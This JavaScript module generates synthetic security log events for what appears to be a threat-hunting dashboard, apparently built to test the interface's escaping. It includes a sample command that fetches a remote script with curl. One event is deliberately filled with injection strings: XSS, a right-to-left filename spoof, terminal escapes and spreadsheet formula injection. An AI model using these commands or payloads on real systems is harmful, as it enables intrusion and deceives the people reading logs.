// A month of invented events to hunt in: more of them the nearer to now, as people look there.

import { random } from './random.mjs';

const USERS = ['root', 'admin', 'vanthu', 'ketoan', 'nguyenvanan', 'tranthibinh', 'quantri'];
const PATHS = ['/', '/dich-vu-cong/ho-so', '/wp-login.php', '/user/login', '/api/tra-cuu?ma=1029'];
const RECENT = 1800;
const OLDER = 4200;
const DAY = 86.4e6;

const MAKERS = [
  [sshFailed, 9],
  [sshAccepted, 4],
  [web, 10],
  [cron, 5],
  [firewall, 6],
  [started, 6],
  [windowsLogin, 7],
  [port, 2],
];

/** Newest first; positions follow the time they were received. */
export function hunted(world, now = Date.now()) {
  if (world.machines.length === 0) return [];
  const r = random(41);
  const ages = [
    ...Array.from({ length: RECENT }, () => r.next() * DAY),
    ...Array.from({ length: OLDER }, () => DAY + Math.pow(r.next(), 1.3) * 29 * DAY),
  ].sort((a, b) => a - b);
  const made = ages.map((age, index) => {
    const machine = r.pick(world.machines);
    return event(r.weighted(MAKERS)(r, machine), machine, 900_000 - index, now - age, r);
  });
  const newest = made[2];
  // What somebody who owns a machine may write into a log.
  newest.raw = '<img src=x onerror=alert(1)> \u202Egpj.exe\u202C \u001b[2J =cmd|calc';
  newest.fields = { 'process.name': '<b>sshd</b>', 'user.name': '=HYPERLINK("x")' };
  const alerted = world.alerts.flatMap((alert) =>
    alert.events.map((one) => ({ ...one, agency: alert.agency })),
  );
  return [...made, ...alerted].sort((a, b) => b.time.localeCompare(a.time));
}

function event(made, machine, position, at, r) {
  const time = new Date(at).toISOString();
  return {
    position,
    id: `${machine.id}/1/${made.kind === 'log' ? 'log' : 'state'}/${position}`,
    received: new Date(at + 200 + r.below(900)).toISOString(),
    time,
    raw: null,
    ...made,
    machine: { id: machine.id, hostname: machine.hostname },
    agency: machine.agency,
  };
}

const address = (r) => `203.0.113.${1 + Math.floor(Math.pow(r.next(), 3) * 250)}`;
const stamp = (machine, program) => `Nov 22 09:14:07 ${machine.hostname} ${program}`;

function ssh(r, machine, outcome, words) {
  const [user, ip, from] = [r.pick(USERS), address(r), 30000 + r.below(30000)];
  const message = `${words} password for ${user} from ${ip} port ${from} ssh2`;
  return {
    kind: 'log',
    logsource: { product: 'linux', service: 'sshd' },
    fields: {
      'log.file.path': '/var/log/auth.log',
      'process.name': 'sshd',
      'event.action': 'ssh_login',
      'event.outcome': outcome,
      'user.name': user,
      'source.ip': ip,
      'source.port': from,
      message,
    },
    raw: `${stamp(machine, `sshd[${1000 + r.below(9000)}]`)}: ${message}`,
  };
}

function sshFailed(r, machine) {
  return ssh(r, machine, 'failure', 'Failed');
}

function sshAccepted(r, machine) {
  return ssh(r, machine, 'success', 'Accepted');
}

function web(r) {
  const [ip, path] = [address(r), r.pick(PATHS)];
  const status = r.weighted([
    [200, 8],
    [302, 2],
    [404, 3],
    [403, 1],
    [500, 1],
  ]);
  const bytes = 200 + r.below(90000);
  return {
    kind: 'log',
    logsource: { category: 'webserver', service: 'nginx' },
    fields: {
      'source.ip': ip,
      'http.request.method': 'GET',
      'url.original': path,
      'http.response.status_code': status,
      'http.response.bytes': bytes,
      'user_agent.original': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)',
    },
    raw: `${ip} - - [22/Nov/2026:09:14:07 +0700] "GET ${path} HTTP/1.1" ${status} ${bytes} "-" "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"`,
  };
}

function cron(r, machine) {
  return {
    kind: 'log',
    logsource: { product: 'linux', service: 'cron' },
    fields: { 'process.name': 'CRON', 'user.name': 'root', 'log.file.path': '/var/log/syslog' },
    raw: `${stamp(machine, `CRON[${1000 + r.below(9000)}]`)}: (root) CMD (/usr/lib/nhat-ky/don-dep --ngay ${r.below(9)})`,
  };
}

function firewall(r, machine) {
  const ip = address(r);
  const to = r.pick([22, 23, 445, 3389, 8080]);
  return {
    kind: 'log',
    logsource: { product: 'linux', category: 'firewall' },
    fields: {
      'event.action': 'drop',
      'source.ip': ip,
      'destination.ip': machine.ip[0],
      'destination.port': to,
      'network.transport': 'tcp',
    },
    raw: `${stamp(machine, 'kernel')}: nft-drop IN=eth0 OUT= SRC=${ip} DST=${machine.ip[0]} PROTO=TCP SPT=${30000 + r.below(9999)} DPT=${to} SYN`,
  };
}

function started(r) {
  const command = r.pick([
    'ls -la /srv/vanban',
    'curl -s http://203.0.113.7/a.sh',
    'systemctl status nginx',
    'tar czf /tmp/sao-luu.tgz /home',
  ]);
  return {
    kind: 'log',
    logsource: { product: 'linux', category: 'process_creation' },
    fields: {
      Image: `/usr/bin/${command.split(' ')[0]}`,
      CommandLine: command,
      ParentImage: '/usr/bin/bash',
      User: r.pick(USERS),
    },
    raw: `type=EXECVE msg=audit(1795397647.113:${r.below(99999)}): argc=3 a0="${command.split(' ')[0]}"`,
  };
}

function windowsLogin(r, machine) {
  const failed = r.chance(0.3);
  return {
    kind: 'log',
    logsource: { product: 'windows', service: 'security' },
    fields: {
      EventID: failed ? 4625 : 4624,
      TargetUserName: r.pick(USERS),
      IpAddress: `10.2.${r.below(8)}.${r.below(250)}`,
      LogonType: r.pick([2, 3, 10]),
      Computer: machine.hostname,
    },
  };
}

function port(r) {
  return {
    kind: 'port.opened',
    logsource: { product: 'soc', service: 'port' },
    fields: {
      'network.transport': 'tcp',
      'server.ip': '0.0.0.0',
      'server.port': 8000 + r.below(900),
      'process.name': 'python3',
      'process.executable': '/usr/bin/python3.11',
    },
  };
}
